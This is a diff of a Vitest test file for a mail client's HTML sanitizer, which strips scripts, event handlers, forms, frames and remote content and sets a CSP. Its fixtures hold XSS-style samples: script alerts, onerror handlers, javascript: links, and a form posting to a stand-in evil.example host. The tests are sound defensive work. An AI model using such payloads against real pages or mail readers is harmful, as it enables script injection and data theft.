@@ -1,30 +1,34 @@
 import { describe, expect, it } from 'vitest';
-import { cspFor, findCids, normalizeCid, prepareMailHtml } from '../../src/client/mail-center/html-prep';
+import { cspFor, findCids, mountMail, normalizeCid, prepareMailHtml, type PreparedHtml } from '../../src/client/mail-center/html-prep';
 
-/** The body of the prepared document, parsed back, to assert on elements rather than strings. */
-function bodyOf(srcdoc: string) {
-  return new DOMParser().parseFromString(srcdoc, 'text/html');
+/** The frame's document as the reader builds it: the shell loaded, then the mail mounted in it. */
+function framed(prepared: PreparedHtml) {
+  const doc = new DOMParser().parseFromString(prepared.shell, 'text/html');
+  expect(mountMail(doc, prepared)).toBe(true);
+  return doc;
 }
+/** The same as markup, for "this text is nowhere" checks. */
+const markup = (prepared: PreparedHtml) => framed(prepared).documentElement.outerHTML;
 
 const blocked = (html: string) => prepareMailHtml(html, { allowRemote: false });
 const allowed = (html: string) => prepareMailHtml(html, { allowRemote: true });
 
 describe('prepareMailHtml', () => {
   it('removes scripts, event handlers, forms, frames, object and embed', () => {
-    const { srcdoc } = blocked(
+    const prepared = blocked(
       `<p onclick="steal()" onmouseover="x()">Hi</p><script>alert(1)</script><img src="data:image/png;base64,AA" onerror="alert(2)">
        <form action="https://evil.example/post"><input name="pw"><button>Go</button></form>
        <iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><svg><script>alert(3)</script></svg>`,
     );
-    const doc = bodyOf(srcdoc);
+    const doc = framed(prepared);
     expect(doc.body.textContent).toContain('Hi');
-    expect(srcdoc).not.toMatch(/<script|onclick|onmouseover|onerror|alert\(/i);
+    expect(markup(prepared)).not.toMatch(/<script|onclick|onmouseover|onerror|alert\(/i);
     for (const tag of ['form', 'input', 'button', 'iframe', 'object', 'embed', 'svg']) expect(doc.body.querySelector(tag), tag).toBeNull();
   });
 
   it('drops javascript: links and keeps safe ones opening in a new tab without opener or referrer', () => {
-    const doc = bodyOf(
-      blocked(`<a id="js" href="javascript:alert(1)">a</a><a id="js2" href=" JaVaScRiPt:alert(1)">b</a><a id="ok" href="https://ok.example/x">c</a><a id="mail" href="mailto:ann@x.example">d</a><a id="rel" href="/api/users:destroy">e</a><a id="frag" href="#part2">f</a>`).srcdoc,
+    const doc = framed(
+      blocked(`<a id="js" href="javascript:alert(1)">a</a><a id="js2" href=" JaVaScRiPt:alert(1)">b</a><a id="ok" href="https://ok.example/x">c</a><a id="mail" href="mailto:ann@x.example">d</a><a id="rel" href="/api/users:destroy">e</a><a id="frag" href="#part2">f</a>`),
     );
     expect(doc.getElementById('js')!.hasAttribute('href')).toBe(false);
     expect(doc.getElementById('js2')!.hasAttribute('href')).toBe(false);
@@ -41,16 +45,15 @@ describe('prepareMailHtml', () => {
   it('blocks remote images until allowed, and says how many it blocked', () => {
     const html = '<img id="a" src="https://track.example/p.gif"><img id="b" src="//cdn.example/logo.png"><table id="t" background="http://x.example/bg.png"><tr><td>x</td></tr></table>';
     const off = blocked(html);
-    const docOff = bodyOf(off.srcdoc);
+    const docOff = framed(off);
     expect(off.blockedRemote).toBe(3);
     expect(docOff.getElementById('a')!.hasAttribute('src')).toBe(false);
     expect(docOff.getElementById('b')!.hasAttribute('src')).toBe(false);
     expect(docOff.getElementById('t')!.hasAttribute('background')).toBe(false);
-    expect(off.srcdoc).not.toContain('track.example');
-    expect(off.measureHtml).not.toContain('track.example');
+    expect(markup(off)).not.toContain('track.example');
 
     const on = allowed(html);
-    const docOn = bodyOf(on.srcdoc);
+    const docOn = framed(on);
     expect(on.blockedRemote).toBe(0);
     expect(docOn.getElementById('a')!.getAttribute('src')).toBe('https://track.example/p.gif');
     expect(docOn.getElementById('b')!.getAttribute('src')).toBe('https://cdn.example/logo.png');
@@ -58,9 +61,9 @@ describe('prepareMailHtml', () => {
   });
 
   it('puts a CSP in the document that lets remote images in only after "Show images"', () => {
-    const csp = (srcdoc: string) => bodyOf(srcdoc).querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute('content');
-    expect(csp(blocked('<p>x</p>').srcdoc)).toBe("default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:");
-    expect(csp(allowed('<p>x</p>').srcdoc)).toBe(cspFor(true));
+    const csp = (prepared: PreparedHtml) => framed(prepared).querySelector('meta[http-equiv="Content-Security-Policy"]')!.getAttribute('content');
+    expect(csp(blocked('<p>x</p>'))).toBe("default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'");
+    expect(csp(allowed('<p>x</p>'))).toBe(cspFor(true));
     expect(cspFor(true)).toContain('img-src data: http: https:');
   });
 
@@ -68,21 +71,21 @@ describe('prepareMailHtml', () => {
     const html = `<html><head><style>@import url("https://evil.example/a.css"); .hero { background: url('https://img.example/hero.jpg') no-repeat; }</style></head>
       <body><div id="d" style="background-image: url(https://img.example/bg.png); color: red">x</div></body></html>`;
     const off = blocked(html);
-    const doc = bodyOf(off.srcdoc);
-    expect(off.srcdoc).not.toContain('img.example');
-    expect(off.srcdoc).not.toContain('@import');
-    expect(doc.getElementById('d')!.getAttribute('style')).toContain('color: red');
+    const doc = framed(off);
+    expect(markup(off)).not.toContain('img.example');
+    expect(markup(off)).not.toContain('@import');
+    expect(doc.getElementById('d')!.getAttribute('style')).toContain('color:red');
     expect(doc.head.textContent).toContain('.hero');
     expect(off.blockedRemote).toBe(2);
     const on = allowed(html);
-    expect(on.srcdoc).toContain('https://img.example/hero.jpg');
-    expect(on.srcdoc).not.toContain('@import');
+    expect(markup(on)).toContain('https://img.example/hero.jpg');
+    expect(markup(on)).not.toContain('@import');
   });
 
   it('replaces cid: images with the data: URLs given, tolerating brackets, encoding and case', () => {
     const cidUrls = { 'logo@mail.example': 'data:image/png;base64,AAAA', 'part.2@x': 'data:image/gif;base64,BBBB' };
     const html = '<img id="a" src="cid:<Logo@Mail.Example>"><img id="b" src="CID:logo%40mail.example"><div id="c" style="background:url(cid:part.2@X)">x</div><img id="d" src="cid:missing@x">';
-    const doc = bodyOf(prepareMailHtml(html, { allowRemote: false, cidUrls }).srcdoc);
+    const doc = framed(prepareMailHtml(html, { allowRemote: false, cidUrls }));
     expect(doc.getElementById('a')!.getAttribute('src')).toBe('data:image/png;base64,AAAA');
     expect(doc.getElementById('b')!.getAttribute('src')).toBe('data:image/png;base64,AAAA');
     expect(doc.getElementById('c')!.getAttribute('style')).toContain('data:image/gif;base64,BBBB');
@@ -90,8 +93,8 @@ describe('prepareMailHtml', () => {
   });
 
   it('keeps the styles of the mail head and the body attributes', () => {
-    const doc = bodyOf(blocked('<html><head><title>T</title><style>p { color: green }</style></head><body bgcolor="#eeeeee"><p>x</p></body></html>').srcdoc);
-    expect([...doc.head.querySelectorAll('style')].some((s) => s.textContent!.includes('color: green'))).toBe(true);
+    const doc = framed(blocked('<html><head><title>T</title><style>p { color: green }</style></head><body bgcolor="#eeeeee"><p>x</p></body></html>'));
+    expect([...doc.head.querySelectorAll('style')].some((s) => s.textContent!.includes('p{color:green}'))).toBe(true);
     expect(doc.body.getAttribute('bgcolor')).toBe('#eeeeee');
     expect(doc.querySelector('base')!.getAttribute('target')).toBe('_blank');
   });
